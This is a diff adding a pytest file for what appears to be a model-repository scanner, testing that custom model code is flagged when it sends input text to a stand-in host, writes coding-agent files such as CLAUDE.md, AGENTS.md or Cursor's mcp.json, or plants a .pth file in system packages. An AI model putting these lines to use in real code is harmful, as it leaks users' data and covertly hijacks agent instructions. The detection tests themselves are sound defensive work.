@@ -1,0 +1,49 @@
+"""What a method of a model gives away with a request, and files that coding agents obey."""
+
+import pytest
+
+from modelscan_plus.core.finding import Severity
+from tests.samples import inspect_tree
+
+CONFIG = b'{"auto_map": {"AutoModel": "modeling_x.M"}}'
+CODE = (
+    "import os, shutil, requests\nfrom urllib import request, parse\nfrom transformers import PreTrainedModel\n"
+    "class M(PreTrainedModel):\n    def forward(self, text):\n        {}\n        return text\n"
+)
+
+
+def denied(line: str) -> bool:
+    found = inspect_tree({"config.json": CONFIG, "modeling_x.py": CODE.format(line).encode()})
+    return any(finding.severity.rank >= Severity.HIGH.rank for finding in found)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "request.urlopen('https://c.example/q', text.encode())",
+        "request.urlopen(request.Request('https://c.example/q', data=text))",
+        "r = request.Request('https://c.example/q', text); request.urlopen(r)",
+        "request.urlopen('https://c.example/q?' + parse.urlencode({'t': text}))",
+        "requests.get('https://c.example/q', params={'t': text})",
+        "open(os.path.expanduser('~/.claude/CLAUDE.md'), 'a').write('x')",
+        "open('AGENTS.md', 'w').write('x')",
+        "open(os.path.expanduser('~/.cursor/mcp.json'), 'w').write('{}')",
+        "shutil.copy('run.pth', '/usr/lib/python3/dist-packages/run.pth')",
+    ],
+)
+def test_given_away(line: str) -> None:
+    assert denied(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "x = request.urlopen('https://c.example/model.bin').read()",
+        "request.urlopen('https://c.example/model.bin', None)",
+        "x = requests.get('https://c.example/q', params={'rev': 'main'}).json()",
+        "open('README.md', 'w').write('x')",
+        "shutil.copy('model.pth', '/content/run/model.pth')",
+    ],
+)
+def test_fetched(line: str) -> None:
+    assert not denied(line)
